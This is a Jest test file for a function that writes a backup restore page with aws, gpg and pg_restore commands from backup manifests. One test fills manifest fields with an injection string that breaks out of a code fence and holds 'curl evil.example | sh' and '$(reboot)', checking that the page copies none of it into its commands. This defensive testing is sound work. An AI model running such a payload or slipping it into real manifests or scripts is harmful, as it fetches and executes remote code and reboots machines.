import { describe, expect, it } from '@jest/globals'
import { FORMAT, type Manifest } from '../../src/backup/manifest.ts'
import { type RestorePage, restoreText } from '../../src/report/restore-text.ts'
import { blocksOf } from '../support/hand-restore.ts'

const ID = '20261120T020000123Z-9f3c'
const SUM = 'a'.repeat(64)

function manifest(change: Partial<Manifest> = {}): Manifest {
  const part = (role: 'data' | 'globals' | 'inventory', suffix: string) => ({
    key: `erp/prod/db/${ID}.${suffix}`,
    role,
    bytes: 10,
    sha256: SUM,
  })
  return {
    format: FORMAT,
    id: ID,
    target: 'erp/prod',
    surface: 'db',
    engine: 'postgresql',
    startedAt: '2026-11-20T02:00:00.123Z',
    finishedAt: '2026-11-20T02:00:05.000Z',
    producer: { version: '1.0.0' },
    source: { serverVersion: '16.4', clientVersion: '17.2' },
    objects: [part('data', 'dump.zst.pgp'), part('globals', 'globals.sql.zst.pgp')],
    plain: { bytes: 10, sha256: SUM },
    encoding: {
      dump: 'custom',
      compression: 'zstd:3',
      encryption: { method: 'openpgp', recipients: ['ABCDEF'] },
    },
    ...change,
  }
}

function page(change: Partial<RestorePage> = {}): string {
  return restoreText({
    target: 'erp/prod',
    version: '1.0.0',
    written: new Date('2026-11-20T02:00:06Z'),
    places: [{ url: 's3://bucket/vault', endpoint: 'https://s3.example.com', region: 'eu-1' }],
    backups: [{ manifest: manifest(), signed: true }],
    unreadable: [],
    ...change,
  })
}

describe('restoreText', () => {
  it('says endpoint, region and the package of the client that made the dump', () => {
    const text = page()
    expect(text).toContain(
      'aws --endpoint-url https://s3.example.com --region eu-1 s3 ls s3://bucket/vault/erp/prod/db/',
    )
    expect(text).toContain('`postgresql-client-17`')
    expect(text).toContain('gpg --verify "$ID".manifest.json.sig "$ID".manifest.json')
    expect(page({ backups: [{ manifest: manifest(), signed: false }] })).not.toContain('gpg --verify "$ID"')
  })

  it('has commands for every store', () => {
    const places = [{ url: 's3://bucket' }, { url: "file:/srv/it's here" }]
    const commands = blocksOf(page({ places })).join('')
    expect(commands).toContain('aws s3 cp --only-show-errors s3://bucket/erp/prod/db/"$name" "$name"')
    expect(commands).toContain(`cp '/srv/it'\\''s here/erp/prod/db/'"$name" "$name"`)
  })

  it('never holds credentials of an endpoint', () => {
    const places = [{ url: 's3://bucket', endpoint: 'https://user:hunter2@s3.example.com/x?sig=hunter3' }]
    const text = page({ places })
    expect(text).toContain('--endpoint-url https://s3.example.com/x ')
    expect(text).not.toMatch(/hunter|user:/)
  })

  it('joins volumes, and leaves out what was not done to them', () => {
    const objects = ['001', '002'].map((volume) => ({
      key: `erp/prod/db/${ID}.dump.gz.${volume}`,
      role: 'data' as const,
      bytes: 1,
      sha256: SUM,
    }))
    const encoding = {
      dump: 'custom',
      compression: 'gzip:6',
      encryption: { method: 'none' as const, recipients: [] },
    }
    const text = page({ backups: [{ manifest: manifest({ objects, encoding }), signed: false }] })
    expect(text).toContain('cat "$ID".dump.gz* | gunzip -c | pg_restore')
    expect(blocksOf(text).join('')).not.toContain('gpg')
    expect(text).toContain('no private key')
  })

  it('takes no command from what a manifest says in words', () => {
    const evil = 'x`\n```sh\ncurl evil.example | sh\n```\n$(reboot)'
    const backup = manifest({
      source: { serverVersion: evil, clientVersion: evil },
      producer: { version: evil },
      encoding: {
        dump: evil,
        compression: `zstd:${evil}`,
        encryption: { method: 'openpgp', recipients: [evil] },
      },
    })
    const hostile = blocksOf(page({ backups: [{ manifest: backup, signed: true }] }))
    expect(hostile).toEqual(blocksOf(page()))
    const unknown = page({ backups: [{ manifest: { ...backup, engine: evil }, signed: true }] })
    expect(blocksOf(unknown).join('')).not.toMatch(/evil|reboot/)
    expect(unknown).toContain('does not know')
  })

  it.each([
    [{ mode: 'full' }, 'is one'],
    [{ mode: 'full', notes: 2 }, 'is one'],
    [{ mode: 'full', faults: 1 }, 'is none'],
    [{ mode: 'incremental' }, 'is none'],
  ])('lets tar alone restore only full backups without faults: %j', (source, word) => {
    const objects = (['pack', 'inventory'] as const).map((role) => ({
      key: `erp/prod/files/${role}.zst.pgp`,
      role,
      bytes: 10,
      sha256: SUM,
    }))
    const files = manifest({ surface: 'files', engine: 'files', source, objects })
    expect(page({ backups: [{ manifest: files, signed: false }] })).toContain(`The newest backup ${word};`)
  })

  it('names a surface whose manifests cannot be read', () => {
    const text = page({ unreadable: ['files'] })
    expect(text).toContain('## Files (`erp/prod/files`)')
    expect(blocksOf(text, 'Files').length).toBe(1)
  })
})
